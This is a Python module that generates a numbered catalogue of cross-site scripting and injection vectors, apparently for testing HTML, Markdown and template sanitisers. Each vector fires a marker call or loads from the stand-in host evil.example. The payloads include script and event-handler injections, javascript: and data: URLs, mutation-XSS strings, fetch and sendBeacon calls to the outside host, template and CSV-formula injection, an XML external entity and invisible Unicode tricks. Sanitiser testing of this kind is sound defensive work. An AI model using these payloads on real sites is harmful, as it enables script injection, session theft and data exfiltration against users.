"""What somebody might write where a text belongs, to run in other people's browsers.

§ stands for the call that tells it has run, ¤ for an address elsewhere, № for the number of the vector.
``{64:…}``, ``{&:…}``, ``{&x:…}``, ``{%:…}`` and ``{u:…}`` are the same text in Base64, as decimal or as
hexadecimal references, percent-encoded, and with JavaScript's escapes. ``unsafe`` shows what each does unless
it is stopped.
"""

import re
from base64 import b64encode
from dataclasses import dataclass
from enum import StrEnum
from urllib.parse import quote

EVIL = "evil.example"


class Place(StrEnum):
    """Where a vector runs if nothing is done about it."""

    text = "text"
    attribute = "attribute"
    title = "title"
    raw = "raw"
    json = "json"
    link = "link"
    frame = "frame"
    markdown = "markdown"
    anywhere = "anywhere"
    twisted = "twisted"
    """In a Markdown or a cleaner of HTML that is careless, as some were."""
    template = "template"
    """In a text that is filled in."""
    line = "line"
    """In a format of lines: calendars, headers, front matter, tables."""
    xml = "xml"
    hidden = "hidden"
    """Not at all: it deceives the reader."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Vector:
    number: int
    place: Place
    text: str


def _armed(number: int, written: str) -> str:
    text = written.replace("§", "pwned(№)").replace("¤", f"https://{EVIL}/№").replace("№", str(number))
    return re.sub(r"\{(64|&x?|%|u):(.*?)\}", lambda found: _ENCODE[found[1]](found[2]), text)


_ENCODE = {
    "64": lambda text: b64encode(text.encode()).decode(),
    "&": lambda text: "".join(f"&#{ord(one)};" for one in text),
    "&x": lambda text: "".join(f"&#x{ord(one):x};" for one in text),
    "%": lambda text: quote(text, safe=""),
    "u": lambda text: "".join(f"\\u{ord(one):04x}" for one in text),
}

_WRITTEN: dict[Place, tuple[str, ...]] = {
    Place.text: (
        "<script>§</script>",
        "<SCRIPT>§</SCRIPT>",
        "<ScRiPt >§</sCrIpT >",
        "<script\n>§</script\n>",
        "<script/x>§</script>",
        "<script src=¤></script>",
        "<script src=//evil.example/№></script>",
        "<script src=data:,§></script>",
        "<script type=module>§</script>",
        "<script>eval('{u:§}')</script>",
        "<<script>§//<</script>",
        "<img src=x: onerror=§>",
        "<IMG SRC=x: ONERROR=§>",
        "<img/src='x:'/onerror=§>",
        '<img src="x:" onerror="§">',
        "<img src='x:' onerror='§'>",
        "<img src=x:\tonerror\n=\n§>",
        "<img src=x: onerror={&:§}>",
        "<img src=x: onerror={&x:§}>",
        "<img src=x: onerror=`${§}`>",
        "<img src=x: onerror=eval('{u:§}')>",
        "<img src=¤>",
        "<img srcset='¤ 1x'>",
        "<picture><source srcset=¤><img></picture>",
        "<image src=x: onerror=§>",
        "<svg onload=§>",
        "<svg/onload=§>",
        "<svg><script>§</script></svg>",
        "<svg><script>{&:§}</script></svg>",
        "<svg><script href=data:,§ /></svg>",
        "<svg><animate onbegin=§ attributeName=x dur=1s>",
        "<svg><set onbegin=§ attributeName=x dur=1s>",
        "<svg><image href=¤ /></svg>",
        "<svg><image xlink:href=¤ /></svg>",
        "<svg><style>@import '¤'</style></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>§</script>'></iframe></foreignObject></svg>",
        "<svg></p><style><g title='</style><img src=x: onerror=§>'>",
        "<math><mtext><img src=x: onerror=§></mtext></math>",
        "<math><annotation-xml encoding=text/html><script>§</script></annotation-xml></math>",
        "<body onload=§>",
        "<body onpageshow=§>",
        "<iframe onload=§></iframe>",
        "<iframe src=javascript:parent.§></iframe>",
        "<iframe srcdoc='<script>§</script>'></iframe>",
        "<iframe srcdoc='{&:<script>§</script>}'></iframe>",
        "<iframe src=¤></iframe>",
        "<object data=¤></object>",
        "<iframe src={&:javascript:}parent.§></iframe>",
        "<embed src=¤>",
        "<details open ontoggle=§>",
        "<video src=x: onerror=§></video>",
        "<video><source src=x: onerror=§></video>",
        "<video poster=¤></video>",
        "<audio src=x: onerror=§></audio>",
        "<audio src=¤></audio>",
        "<input autofocus onfocus=§>",
        "<select autofocus onfocus=§></select>",
        "<textarea autofocus onfocus=§></textarea>",
        "<a tabindex=1 autofocus onfocus=§>x</a>",
        "<xss contenteditable autofocus onfocus=§>",
        "<xss tabindex=1 id=x onfocus=§ autofocus>",
        "<style>@keyframes x{}</style><xss style='animation-name:x' onanimationstart=§></xss>",
        "<style>@import '¤';</style>",
        "<style>body{background:url(¤)}</style>",
        "<p style='background:url(¤)'>x</p>",
        "<link rel=stylesheet href=¤>",
        "<link rel=preload as=image href=¤>",
        "<link rel=icon href=¤><link rel=stylesheet href=¤>",
        "<link rel=stylesheet href=data:, onload=§>",
        "<meta http-equiv=refresh content='0;url=¤'>",
        "<base href=¤/><img src=a.png>",
        "<table background=¤>",
        "<form action=¤><input autofocus onfocus=form.submit()></form>",
        "<button autofocus onfocus=§>x</button>",
        "<div><template shadowrootmode=open><script>§</script></template></div>",
        "<noscript><p title='</noscript><img src=x: onerror=§>'>",
        "<!--><img src=x: onerror=§>-->",
        "<!-- --!><img src=x: onerror=§>-->",
        "<![CDATA[><img src=x: onerror=§>]]>",
        "<?xml version='1.0'?><img src=x: onerror=§>",
        "<!DOCTYPE x><img src=x: onerror=§>",
        "</p></div></main><script>§</script>",
        "<b <script>x</script>><script>§</script>",
        "<a href='x'><img src=x: onerror=§>",
        "<img src=x: onerror=§ ",
        "&lt;b&gt;<script>§</script>",
        "<img src=x: onerror=alert(§)>",
        "<script>import('¤')</script>",
        "<script>fetch('¤')</script>",
        "<script>new Image().src='¤'</script>",
        "<script>navigator.sendBeacon('¤')</script>",
        "<script>location='¤'</script>",
    ),
    Place.attribute: (
        '"><script>§</script>',
        "'><script>§</script>",
        '" onerror="§',
        "' onerror='§",
        '" onerror=§ x="',
        '"onerror=§ ',
        '"/onerror="§"/x="',
        '"\nonerror=§\nx="',
        '" autofocus onfocus=§ tabindex=1 x="',
        '" style="background:url(¤)" x="',
        '" srcset="¤ 1x',
        '"><svg onload=§>',
        '"--><img src=x: onerror=§>',
        '"></a><iframe srcdoc="<script>§</script>">',
        '">\'><img src=x: onerror=§>',
        '\\"><img src=x: onerror=§>',
    ),
    Place.title: (
        "</title><script>§</script>",
        "</TITLE ><img src=x: onerror=§>",
        "</title/><svg onload=§>",
        "a</title>\n<img src=¤>",
        "&lt;/title&gt;</title><script>§</script>",
    ),
    Place.raw: (
        "</textarea><script>§</script>",
        "</style><script>§</script>",
        "</noscript><img src=x: onerror=§>",
        "</template><script>§</script>",
        "</xmp><script>§</script>",
        "</iframe><script>§</script>",
        "</noembed><svg onload=§>",
        "--><script>§</script>",
        "--!><script>§</script>",
        "</select></form><script>§</script>",
    ),
    Place.json: (
        "</script><script>§</script>",
        "</SCRIPT\t><img src=x: onerror=§>",
        '"}</script><svg onload=§>',
        "</script><!--><script>§</script>",
        "</script/x><script>§</script>",
        "\\u003c/script></script><script>§</script>",
    ),
    Place.link: (
        "javascript:§",
        "JavaScript:§",
        "jAvAsCrIpT:§//",
        " javascript:§",
        "java\tscript:§",
        "java&Tab;script:§",
        "java&NewLine;script:§",
        "javascript&colon;§",
        "javascript&#58;§",
        "{&:javascript:}§",
        "{&x:javascript:}§",
        "&#0000106avascript:§",
        "&#x6A;avascript:§",
        "javascript:/*--></title></style>*/§",
        "javascript://x%0a§",
        "javascript://example.org/%0d%0a§//",
        "javascript:void(§)",
        "javascript:'<script>top.§</script>'",
        "javascript:{%:§}",
        "javascript:eval(atob('{64:§}'))",
    ),
    Place.frame: (
        "data:text/html,<script>§</script>",
        "data:text/html;base64,{64:<script>§</script>}",
        "DATA:TEXT/HTML;charset=utf-8,<script>§</script>",
        "data:text/html,{%:<script>§</script>}",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§'/>",
        "data:image/svg+xml;base64,{64:<svg xmlns='http://www.w3.org/2000/svg' onload='§'/>}",
        "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>§</x:script>",
        "data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>§</x:script>",
        "//evil.example/№",
        "\\\\evil.example\\№",
        "/\\evil.example/№",
        "/\t/evil.example/№",
        "¤",
    ),
    Place.markdown: (
        "[x](javascript:§)",
        "[x](JaVaScRiPt:§)",
        "[x](<javascript:§>)",
        "[x](javascript&colon;§)",
        "[x]({&:javascript:}§)",
        "[x](javascript:§ \"y\")",
        "[x][a]\n\n[a]: javascript:§",
        "[a]\n\n[a]: <javascript:§>",
        "[x](javascript://x%0a§)",
        "![x](¤)",
        "![x](<¤>)",
        "![x](//evil.example/№)",
        "![x](/\\evil.example/№)",
        "![x][b]\n\n[b]: ¤",
        "[![x](¤)](javascript:§)",
        "x[^1]\n\n[^1]: <img src=x: onerror=§>",
        "|a|\n|-|\n|<img src=x: onerror=§>|",
        "|a|\n|-|\n|[x](javascript:§)|",
        "> [!NOTE]\n> <img src=x: onerror=§>",
        "- [ ] <img src=x: onerror=§>",
        "# <img src=x: onerror=§>",
        "x\n{: onclick=§ autofocus onfocus=§ tabindex=1 }",
        "# x {: style=background:url(¤) }",
        "[x](#){: onfocus=§ autofocus }",
        "`x`<img src=x: onerror=§>",
        "```<img src=x: onerror=§>\n```\n<img src=x: onerror=§>",
        "<div markdown=1>\n[x](javascript:§)\n</div>",
        "\\<script>§\\</script> <script>§</script>",
        "<!-- x\n--><script>§</script>",
    ),
    Place.anywhere: (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=§ )//%0D%0A//"
        "</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=§//>",
        "\"'--></style></script></title></textarea></noscript></template></select><img src=x: onerror=§>",
        "'\"><svg/onload=§></title></style></textarea></xmp></iframe></script><script>§</script>",
        "]]>*/;//--></title></script>\"'><img src=¤ onerror=§>",
    ),
    Place.twisted: (
        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x: onerror=§>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=§>",
        "<svg></p><style><a id='</style><img src=x: onerror=§>'>",
        "<p><svg><style><!--</style><img src=x: onerror=§>--></style></svg>",
        "<math></p><style><!--</style><img title='--><img src=x: onerror=§>'>",
        "[x](data:text/html;base64,{64:<script>§</script>})",
        "[x](vbscript:msgbox(1))",
        '![x"onerror="§](x:)',
        "![x](x:\"onerror=\"§)",
        '[x](# "y\\" autofocus onfocus=§ z")',
        "<javascript:§>",
        "x[^<svg/onload=§>]\n\n[^<svg/onload=§>]: y",
        "*[x]: \" onmouseover=§\nx",
        "[x](https://example.org/\"onmouseover=\"§)",
        "<https://example.org/\"onmouseover=§>",
    ),
    Place.template: (
        "{{7*191}}",
        "${7*191}",
        "{%raw%}{{7*191}}",
        "{{ self.__init__.__globals__ }}",
        "{{''.__class__.__mro__}}",
        "{0.__class__}{name.__class__}",
        "%(name)s%n{count}",
        "$& $` $' $1 {name}{count}",
    ),
    Place.line: (
        "x\nATTENDEE:mailto:x@evil.example",
        "x\r\nBEGIN:VALARM\r\nACTION:DISPLAY",
        "x\\nEND:VEVENT\nEND:VCALENDAR",
        "x;ALTREP=\"¤\":y",
        "x\n Set-Cookie: a=b",
        "x\n\n/*\n  X-Frame-Options: ALLOWALL",
        "=HYPERLINK(\"¤\")",
        "x\n---\nstatus: cancelled",
    ),
    Place.xml: (
        "]]></title><script>§</script>",
        "]]><![CDATA[<script>§</script>",
        "</title><link href='¤'/>",
        "<!ENTITY x SYSTEM '¤'>&x;",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>§</x:script>",
        "&lt;script&gt;§&lt;/script&gt;",
        "&amp;lt;img src=x: onerror=§&amp;gt;",
    ),
    Place.hidden: (
        "\u202etxt.exe",
        "a\u202d\u202eb",
        "\u2066a\u2069",
        "<scr\u200bipt>§</script>",
        "java\u2060script:§",
        "java\u00adscript:§",
        "a\ufeffb",
        "\u0000<script>§</script>",
        "<scr\u0000ipt>§</script>",
        "\u001b[31mx",
        "\u2028§",
        "\u3164",
        "x\U000e0041",
    ),
}  # fmt: skip

VECTORS = tuple(
    Vector(number=number, place=place, text=_armed(number, written))
    for number, (place, written) in enumerate(
        ((place, written) for place, texts in _WRITTEN.items() for written in texts), start=1
    )
)
